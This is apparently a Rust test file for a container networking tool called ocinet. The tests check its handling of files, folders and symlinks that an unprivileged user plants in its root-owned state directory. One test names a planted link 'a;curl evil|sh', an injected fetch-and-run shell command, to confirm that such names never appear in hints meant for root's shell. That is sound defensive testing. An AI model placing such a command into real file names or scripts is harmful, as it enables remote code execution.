//! What a user puts in the place of ocinet's folders and files, while a folder is open to everybody.

use std::fs;
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _, lchown, symlink};
use std::path::Path;

use ocinet_tests::lab::{DUAL, HOST4, Lab, Sandbox, Server, Snapshot};
use serde_json::json;

use crate::life::used;
use crate::reach::reaches;
use crate::trust::{NOBODY, PUBLISHED, by_a_user, fifo, mode, open, set_mode};

pub(crate) fn link_of_a_user(target: &Path, link: &Path) {
    symlink(target, link).unwrap();
    lchown(link, Some(NOBODY), Some(NOBODY)).unwrap();
}

/// A start that is refused for its state folder, and what it says.
#[track_caller]
fn refused(lab: &Lab) -> String {
    let refused = lab.create(&Sandbox::new("web"), &PUBLISHED);
    assert_eq!((refused.code, refused.stderr.lines().count()), (7, 1), "{}", refused.stderr);
    refused.stderr
}

/// A hint is for root's shell: what a user named is no part of a command, and chown(1) and chmod(1) follow links.
#[test]
#[ignore = "needs root"]
fn no_hint_about_the_state_folder_has_a_users_name_in_a_command() {
    let lab = Lab::new();
    let leases = open(&lab, "leases");
    let (name, precious) = ("a;curl evil|sh", lab.dir().join("precious"));
    fs::write(&precious, "root's").unwrap();
    link_of_a_user(&precious, &leases.join(name));
    let said = refused(&lab);
    let (cause, hint) = said.split_once("; hint: ").unwrap();
    assert!(cause.ends_with("a;curl evil|sh: it is a symbolic link"), "{said}");
    assert_eq!(hint.trim_end(), "remove the link: ocinet makes none");
    fs::remove_file(leases.join(name)).unwrap();
    fs::create_dir(leases.join(name)).unwrap();
    lchown(leases.join(name), Some(NOBODY), Some(NOBODY)).unwrap();
    let said = refused(&lab);
    let hint = said.split_once("; hint: ").unwrap().1;
    assert_eq!(hint.trim_end(), "look into the folder that it is in, and remove what root did not make");
    fs::remove_dir(leases.join(name)).unwrap();
    lchown(lab.state_dir(), Some(NOBODY), Some(NOBODY)).unwrap();
    let said = refused(&lab);
    assert!(said.contains("it belongs to the user 65534; hint: name a folder of root's"), "{said}");
}

/// Root may have changed the state folder's mode since, and no ocinet has looked into it.
#[test]
#[ignore = "needs root"]
fn a_link_in_the_place_of_a_folder_changes_nothing_elsewhere() {
    for of_root in [false, true] {
        for name in ["containers", "leases", "last-error", "leases/default", "macs/networks"] {
            let lab = Lab::new();
            let home = lab.dir().join("home");
            fs::create_dir_all(home.join(".ssh/deep")).unwrap();
            let all = [home.clone(), home.join(".ssh"), home.join(".ssh/deep")];
            all.iter().for_each(|path| set_mode(path, 0o700));
            let link = lab.state_dir().join(name);
            fs::create_dir_all(link.parent().unwrap()).unwrap();
            symlink(&home, &link).unwrap();
            if !of_root {
                lchown(&link, Some(NOBODY), Some(NOBODY)).unwrap();
            }
            let said = refused(&lab);
            let says = format!("cannot use {}: it is", link.display());
            assert!(said.contains(&says) && said.contains("hint: remove the link"), "{said}");
            assert_eq!(lab.run(&["gc"], "").code, 7, "{name}");
            let modes: Vec<u32> = all.iter().map(|path| mode(path)).collect();
            assert_eq!(modes, [0o700; 3], "{name}");
        }
    }
}

/// ocinet makes no folder in the folder of records, and none below a network's leases.
#[test]
#[ignore = "needs root"]
fn a_folder_that_ocinet_did_not_make_keeps_its_mode() {
    let lab = Lab::new();
    let below = ["containers/mine", "leases/default/mine", "macs/networks/default/mine"];
    for name in below {
        let path = open(&lab, name);
        fs::create_dir(path.join("deeper")).unwrap();
        set_mode(&path, 0o700);
    }
    let web = lab.attach("web", &PUBLISHED);
    for name in below {
        assert_eq!(mode(&lab.state_dir().join(name)), 0o700, "{name}");
        assert_eq!(mode(lab.state_dir().join(name).parent().unwrap()), 0o755, "{name}");
    }
    lab.detach(web);
}

/// A mode of today says nothing of who could write before.
#[test]
#[ignore = "needs root"]
fn what_a_user_left_in_a_folder_without_a_lock_file_is_found_whatever_its_mode() {
    let lab = Lab::new();
    open(&lab, "leases/default");
    for name in ["stats.json", "sweep", "forwarding.json", "other"] {
        let path = lab.state_dir().join(name);
        by_a_user(&path, "{}");
        let said = refused(&lab);
        let says = format!("cannot use {}: it belongs to the user {NOBODY}; hint: look into", path.display());
        assert!(said.contains(&says), "{said}");
        fs::remove_file(path).unwrap();
    }
    // What is left is an earlier ocinet's.
    let web = lab.attach("web", &PUBLISHED);
    assert_eq!(mode(&lab.state_dir().join("leases/default")), 0o755);
    lab.detach(web);
}

/// A stop has nothing to do with what the next start uses.
#[test]
#[ignore = "needs root"]
fn a_start_and_a_gc_look_at_the_folders_and_a_stop_does_not() {
    let lab = Lab::new();
    used(&lab);
    let folder = lab.state_dir().join("last-error");
    fs::create_dir_all(&folder).unwrap();
    let web = lab.attach("web", &[("net.subnet", DUAL)]);
    let set = |open| fs::set_permissions(&folder, fs::Permissions::from_mode(open)).unwrap();
    set(0o777);
    assert_eq!(lab.run(&["list"], "").code, 0);
    lab.detach(web);
    assert_eq!(mode(&folder), 0o777);
    assert_eq!(lab.run(&["gc"], "").code, 0);
    assert_eq!(mode(&folder), 0o755);
    set(0o777);
    let web = lab.attach("web", &[("net.subnet", DUAL)]);
    assert_eq!(mode(&folder), 0o755);
    // One level below, gc alone looks.
    let leases = lab.state_dir().join("leases/default");
    fs::set_permissions(&leases, fs::Permissions::from_mode(0o777)).unwrap();
    assert_eq!(lab.run(&["gc"], "").code, 0);
    assert_eq!(mode(&leases), 0o755);
    lab.detach(web);
}

/// A file in the place of a folder is in nobody's way, whether it was there before a start or came while the container ran.
#[test]
#[ignore = "needs root"]
fn a_users_file_in_the_place_of_a_folder_blocks_no_start_and_no_stop() {
    let lab = Lab::new();
    used(&lab);
    let before = Snapshot::of(&lab);
    let asked = [PUBLISHED[0], PUBLISHED[1], ("net.ports", "127.0.0.1:8080:80")];
    let places = ["leases/default", "ports/tcp-8080", "macs/networks/default", "macs/networks"];
    for place in places {
        let path = lab.state_dir().join(place);
        let plant = || {
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            let away = lab.dir().join("away");
            let _ = fs::remove_dir_all(&away);
            if path.is_dir() {
                fs::rename(&path, away).unwrap();
            }
            by_a_user(&path, "somebody\n");
        };
        for command in ["gc", "list", "check", "doctor", "reload"] {
            plant();
            let said = lab.run(&[command], "");
            assert_eq!(said.code, i32::from(command == "check"), "{command} beside {place}: {}", said.stderr);
            let says = format!("{} claims nothing: it belongs to the user {NOBODY}", path.display());
            assert_eq!(
                said.stdout.contains(&says),
                matches!(command, "gc" | "check"),
                "{command}: {}",
                said.stdout
            );
            assert_eq!(path.exists(), command != "gc");
        }
        plant();
        let mut web = lab.attach("web", &asked);
        assert!(path.is_dir(), "{place}");
        plant();
        drop(web.net);
        web.sandbox.end();
        let stopped = lab.poststop("web");
        assert_eq!((stopped.code, stopped.stderr.as_str()), (0, ""), "{place}");
        assert_eq!(lab.run(&["gc"], "").code, 0);
        before.assert_is_back(&lab, place);
    }
}

/// It owns nothing, and what it took the place of is known by what lives.
#[test]
#[ignore = "needs root"]
fn gc_removes_what_is_nobodys_beside_a_users_record() {
    let lab = Lab::new();
    used(&lab);
    let web = lab.attach("web", &PUBLISHED);
    let _server = Server::tcp(&web.net, 80, "web");
    let mut gone = lab.attach("gone", &PUBLISHED[..2]);
    fs::remove_file(lab.state_dir().join("containers/gone.json")).unwrap();
    drop(gone.net);
    gone.sandbox.end();
    lab.host.batch("link add oc-0123456789ab type veth peer name stray\n");
    let folder = open(&lab, "containers");
    by_a_user(&folder.join("evil.json"), &json!({"id": "evil"}).to_string());
    let record = fs::read_to_string(folder.join("web.json")).unwrap();
    fs::rename(folder.join("web.json"), lab.dir().join("web.json")).unwrap();
    by_a_user(&folder.join("web.json"), &record);
    let said = lab.run(&["gc"], "").ok();
    assert!(said.contains("kept: container web lives and has no record here"), "{said}");
    assert!(said.contains("container gone has no record, but the address"), "{said}");
    assert!(said.contains("the link oc-0123456789ab"), "{said}");
    reaches(&lab.peer, HOST4, 8080, "web");
    fs::rename(lab.dir().join("web.json"), folder.join("web.json")).unwrap();
    assert_eq!(lab.run(&["check", "web"], "").ok(), "everything is as recorded\n");
}

/// Neither says whose containers are dead, nor how often a hook ran. Each is made anew.
#[test]
#[ignore = "needs root"]
fn a_users_sweep_and_stats_are_replaced_by_the_next_start() {
    let lab = Lab::new();
    used(&lab);
    let stats = || fs::read_to_string(lab.state_dir().join("stats.json")).unwrap();
    let plants: [fn(&Path); 3] = [
        |path| by_a_user(path, "evil\n"),
        |path| fifo(path),
        |path| link_of_a_user(Path::new("/nowhere"), path),
    ];
    for plant in plants {
        let mut dead = lab.attach("dead", &PUBLISHED[..2]);
        drop(dead.net);
        dead.sandbox.end();
        for name in ["sweep", "stats.json"] {
            let path = lab.state_dir().join(name);
            fs::remove_file(&path).unwrap();
            plant(&path);
        }
        let next = lab.attach("next", &PUBLISHED[..2]);
        for name in ["sweep", "stats.json"] {
            let metadata = fs::symlink_metadata(lab.state_dir().join(name)).unwrap();
            assert!(metadata.is_file() && metadata.uid() == 0, "{name}");
        }
        assert!(lab.record("dead").is_none());
        assert!(stats().contains("createRuntime"), "{}", stats());
        lab.detach(next);
    }
    // Nor what others could change.
    set_mode(&lab.state_dir().join("stats.json"), 0o666);
    lab.detach(lab.attach("next", &PUBLISHED[..2]));
    assert_eq!(mode(&lab.state_dir().join("stats.json")), 0o644);
}

/// What ocinet turned on is not known any more then: the same as where somebody deleted the file.
#[test]
#[ignore = "needs root"]
fn a_users_forwarding_json_is_in_nobodys_way() {
    let lab = Lab::new();
    let web = lab.attach("web", &PUBLISHED);
    let _server = Server::tcp(&web.net, 80, "web");
    for name in ["forwarding.json", "sweep", "stats.json"] {
        let path = lab.state_dir().join(name);
        let _ = fs::remove_file(&path);
        by_a_user(&path, "evil\n");
        let says = format!("{} claims nothing: it belongs to the user {NOBODY}", path.display());
        for (command, code) in [("list", 0), ("check", 1), ("doctor", 0), ("reload", 0), ("gc", 0)] {
            let said = lab.run(&[command], "");
            assert_eq!(said.code, code, "{command} beside {name}: {}", said.stdout + &said.stderr);
            assert_eq!(said.stdout.contains(&says), matches!(command, "check" | "gc"), "{}", said.stdout);
            reaches(&lab.peer, HOST4, 8080, "web");
        }
        assert!(!path.exists(), "{name}");
        by_a_user(&path, "evil\n");
        lab.detach(lab.attach("next", &[("net.network", "next"), ("net.subnet", "10.85.0.0/24")]));
    }
    drop(_server);
    lab.detach(web);
}

/// There, everybody whom the namespace does not know has one and the same number.
#[test]
#[ignore = "needs root"]
fn in_a_user_namespace_the_exporter_believes_nobody_whom_it_does_not_know() {
    let lab = Lab::new();
    let web = lab.attach("web", &PUBLISHED);
    let mut other = web.record.clone();
    other["id"] = json!("other");
    by_a_user(&lab.state_dir().join("containers/other.json"), &other.to_string());
    let user = ["setpriv", "--reuid=1000", "--regid=1000", "--clear-groups", "unshare", "-r"];
    let exporter = lab.exporter_under(&user, &[]);
    let page = exporter.get("/metrics").body;
    assert!(page.contains("ocinet_records{") && !page.contains("id=\"other\""), "{page}");
    drop(exporter);
    lab.detach(web);
}
